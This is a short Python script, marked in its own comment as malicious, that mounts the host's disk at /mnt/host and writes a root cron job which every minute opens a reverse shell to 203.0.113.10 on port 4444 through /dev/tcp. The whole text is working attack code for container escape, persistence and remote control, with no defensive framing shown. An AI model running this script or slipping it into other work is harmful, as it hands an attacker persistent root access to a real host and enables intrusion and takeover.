# Malicious: mounts the host's disk and plants a root cron job on it.
import os
import subprocess

os.makedirs("/mnt/host", exist_ok=True)
subprocess.run(["mount", "/dev/sda1", "/mnt/host"], check=True)
with open("/mnt/host/etc/cron.d/x", "w") as f:
    f.write("* * * * * root /bin/sh -c 'sh -i >& /dev/tcp/203.0.113.10/4444 0>&1'\n")
